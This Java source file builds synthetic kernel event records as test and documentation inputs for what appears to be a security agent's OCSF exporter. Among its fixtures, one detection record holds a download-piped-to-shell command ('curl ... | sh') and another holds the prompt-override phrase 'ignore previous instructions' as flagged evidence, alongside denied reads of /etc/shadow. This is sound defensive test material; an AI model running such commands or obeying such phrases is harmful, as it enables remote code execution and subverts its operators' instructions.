package dev.twinlane.wire;

import java.net.InetAddress;
import java.net.UnknownHostException;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import dev.twinlane.records.RecordKind;
import dev.twinlane.records.SyntheticRecords;

/**
 * Kernel records of every kind the OCSF mapping knows, each with the variants that change the
 * event (decisions, failures, address families, path states), named so docs/OCSF.md can cite
 * them as the input of its examples. Deterministic: each record from its own seeded generator.
 */
public final class RecordCorpus {
    public static final String HOST = "3d1219c7c4c5404aaa1f6d2a48adfda4";
    public static final String LOG_ID = "64f2cbe3f4aaae528c284703b70487ea";
    public static final long WALL_NANOS = 1_795_604_558_493_123_456L;
    private static final int DENY = 1;
    private static final int AUDIT_DENY = 2;
    private static final int AF_INET = 2;
    private static final int AF_INET6 = 10;

    /** One input: a record and what it is, in words. */
    public record Input(String name, String says, byte[] record, long seq) {
    }

    private RecordCorpus() {
    }

    /** Every input, by name, in the order of docs/OCSF.md's table. */
    public static Map<String, Input> all() {
        List<Input> in = new ArrayList<>();
        in.add(of("exec", "bash (pid 4242) executes /usr/bin/curl -fsS https://example.org", RecordKind.EXEC, 4242,
                "comm", "bash", "filename", "/usr/bin/curl", "filename_len", 13, "args",
                new String[] {"curl", "-fsS", "https://example.org"}, "args_len", 35, "argc", 3, "ino", 131_337));
        in.add(of("exec-denied", "an exec of /tmp/x denied by the LSM hook (EPERM)", RecordKind.EXEC, 4300,
                "filename", "/tmp/x", "filename_len", 6, "args", new String[] {"/tmp/x"}, "args_len", 7, "argc", 1,
                "ret", -1, "decision", DENY));
        in.add(of("file_open-denied", "cat (pid 4243) opens /etc/shadow read-only; the LSM hook denies it (EACCES)",
                RecordKind.FILE_OPEN, 4243, "comm", "cat", "path", "/etc/shadow", "path_len", 11, "flags", 0x8000,
                "ino", 262_011, "dev", 2051, "ret", -13, "decision", DENY));
        in.add(of("file_open-audit", "an open of a watched file in audit mode: would be denied, allowed",
                RecordKind.FILE_OPEN, 4244, "path", "/etc/ssl/private/key.pem", "path_len", 24, "ino", 9, "dev", 2051,
                "decision", AUDIT_DENY));
        in.add(of("file_open-name_only", "an open whose path the kernel could resolve to its last component only",
                RecordKind.FILE_OPEN, 4245, "path", "key.pem", "path_len", 7, "path_status", 2, "ino", 10, "dev", 2051));
        in.add(of("kernel_read", "modprobe makes the kernel read a module file (kernel_read_file_id 2)",
                RecordKind.KERNEL_READ, 4246, "comm", "modprobe", "path", "/lib/modules/6.1.0/kernel/fs/x.ko", "path_len", 33,
                "id", 2));
        in.add(of("connect", "curl (pid 4242) connects over TCP to 10.1.2.3:443", RecordKind.CONNECT, 4242,
                "comm", "curl", "protocol", 6, "family", AF_INET, "dport", 443, "daddr", ip("10.1.2.3")));
        in.add(of("connect-ipv6-refused", "a TCP connect to [2001:db8::7]:8443, refused (ECONNREFUSED)",
                RecordKind.CONNECT, 4247, "protocol", 6, "family", AF_INET6, "dport", 8443, "daddr", ip("2001:db8::7"),
                "ret", -111));
        in.add(of("connect-mapped-denied", "a UDP connect to ::ffff:192.0.2.1:53 denied by a deny rule",
                RecordKind.CONNECT, 4248, "protocol", 17, "family", AF_INET6, "dport", 53, "daddr", mapped(192, 0, 2, 1),
                "ret", -1, "decision", DENY));
        in.add(of("bind", "nc binds TCP 0.0.0.0:8080", RecordKind.BIND, 4249, "comm", "nc", "protocol", 6, "family", AF_INET,
                "sport", 8080, "saddr", ip("0.0.0.0")));
        in.add(of("ptrace", "gdb (pid 4250) attaches to pid 4100 (mode PTRACE_MODE_ATTACH|REALCREDS)", RecordKind.PTRACE, 4250,
                "comm", "gdb", "mode", 0x12, "target_tgid", 4100));
        in.add(of("bpf", "bpftool calls bpf(BPF_PROG_LOAD) with a 144-byte attr", RecordKind.BPF, 4251, "comm", "bpftool",
                "cmd", 5, "attr_size", 144));
        in.add(of("fork", "bash (pid 4242) forks pid 4252 (promoted by a rule)", RecordKind.FORK, 4242,
                "child_tgid", 4252, "child_start_ns", 7_000_000_000L));
        in.add(of("exit", "pid 4252 exits with status 1 (wait status 256)", RecordKind.EXIT, 4252,
                "exit_code", 256, "utime_ns", 1_000_000, "stime_ns", 2_000_000));
        in.add(of("syscall", "a failed setuid(0) (nr 105, EPERM) promoted as a failed privileged syscall", RecordKind.SYSCALL, 4253,
                "nr", 105, "ret", -1, "latency_ns", 1200));
        in.add(of("tcp_state", "a TCP socket [2001:db8::1]:51000 -> [2001:db8::2]:443 goes SYN_SENT -> ESTABLISHED",
                RecordKind.TCP_STATE, 4254, "family", AF_INET6, "sport", 51000, "dport", 443, "saddr", ip("2001:db8::1"),
                "daddr", ip("2001:db8::2"), "oldstate", 2, "newstate", 1));
        in.add(of("policy-apply", "the agent (pid 4100) applies policy version 12 in enforce mode, in 2.4 ms",
                RecordKind.POLICY, 4100, "comm", "java", "source", 5, "event", 1, "mode", 1, "version", 12, "previous_version", 11,
                "apply_ns", 2_400_000));
        in.add(of("policy-refusal", "a bundle of version 11 is refused: not above the version in force (12)",
                RecordKind.POLICY, 4100, "comm", "java", "source", 5, "event", 2, "mode", 1, "reason", 5, "previous_version", 12,
                "detail", "policy version 11 is not above the last applied version 12 (a replay or a rollback)",
                "detail_len", 83));
        in.add(of("policy-deadman", "the deadman lapsed: the programs decide audit-only until the agent renews it",
                RecordKind.POLICY, 4100, "comm", "java", "source", 5, "event", 5, "mode", 0, "version", 12, "previous_version", 12));
        in.add(of("policy-tamper", "another root process deleted a deny entry of the slot in force; the agent restored it",
                RecordKind.POLICY, 4100, "comm", "java", "source", 5, "event", 8, "mode", 1, "version", 12, "previous_version", 12,
                "detail", "policy maps tampered: pdeny_cidr4_s1 +0 -1 ~0; restored", "detail_len", 55));
        // Appended: an entry inserted earlier would shift the seq and time of docs/OCSF.md's examples.
        in.add(of("bpf-protected", "bpftool asks an fd for twinlane's map 17 (BPF_MAP_GET_FD_BY_ID), refused by self-protection",
                RecordKind.BPF, 4255, "comm", "bpftool", "cmd", 14, "attr_size", 12, "target_type", 1, "target_id", 17,
                "ret", -1, "decision", DENY));
        in.add(of("detection-exec-args", "the detector flags argv element 2 of an exec of /bin/true: curl piped to sh",
                RecordKind.DETECTION, 4256, "comm", "true", "subject_kind", 1, "field", 2, "threat_class", 1,
                "rule_id", 504, "arg_index", 2, "span_start", 17, "span_len", 30, "rule", "download-pipe-shell",
                "evidence", "curl http://203.0.113.5/a|sh", "evidence_len", 28));
        in.add(of("detection-promoted-comm", "a fork record whose comm says 'ignore previous instructions', promoted",
                RecordKind.DETECTION, 4257, "comm", "ignore previous", "subject_kind", 32, "field", 5, "threat_class", 4,
                "rule_id", 101, "span_start", 0, "span_len", 15, "subject_ring", 1, "rule", "ignore-previous-instructions",
                "evidence", "ignore previous", "evidence_len", 15));
        in.add(of("sandbox_denial-seccomp", "a workload under `sandbox run --profile minimal` calls socket() (nr 41): "
                + "seccomp returns EPERM and logs it (audit code 0x50000, SECCOMP_RET_ERRNO)",
                RecordKind.SANDBOX_DENIAL, 4258, "comm", "perl", "source", 5, "denial_source", 1, "syscall_nr", 41,
                "action", 0x50000, "audit_serial", 2_779_153, "audit_time_ms", 1_795_604_558_480L));
        in.add(of("sandbox_denial-landlock", "the same workload opens /srv/out/x for writing outside its write paths: "
                + "Landlock denies it (EACCES), missing fs.write_file",
                RecordKind.SANDBOX_DENIAL, 4259, "comm", "perl", "source", 5, "denial_source", 2, "syscall_nr", 257,
                "error", 13, "audit_serial", 2_779_156, "audit_time_ms", 1_795_604_558_490L, "landlock_domain", 0x1b3d9aacbL,
                "blockers", "fs.write_file", "blockers_len", 13, "object", "/srv/out/x", "object_len", 10));
        Map<String, Input> byName = new LinkedHashMap<>();
        long seq = 42;
        for (Input i : in) {
            byName.put(i.name(), new Input(i.name(), i.says(), i.record(), seq++));
        }
        return byName;
    }

    /** The OCSF event of an input as the exporter renders it (host, log and time above). */
    public static byte[] event(Input i) {
        JsonOut o = new JsonOut(4096);
        if (!Ocsf.event(o, i.record(), 0, i.record().length, WALL_NANOS, HOST, LOG_ID, i.seq())) {
            throw new IllegalStateException(i.name() + " has no OCSF event");
        }
        return o.toBytes();
    }

    private static Input of(String name, String says, RecordKind kind, int tgid, Object... fields) {
        return new Input(name, says, new SyntheticRecords(tgid).record(kind, tgid, fields), 0);
    }

    /** An IPv4-mapped IPv6 address (InetAddress would turn it into IPv4). */
    private static byte[] mapped(int a, int b, int c, int d) {
        return new byte[] {0, 0, 0, 0, 0, 0, 0, 0, 0, 0, (byte) 0xFF, (byte) 0xFF, (byte) a, (byte) b, (byte) c, (byte) d};
    }

    private static InetAddress ip(String literal) {
        try {
            return InetAddress.getByName(literal);
        } catch (UnknownHostException e) {
            throw new IllegalArgumentException(literal, e);
        }
    }
}
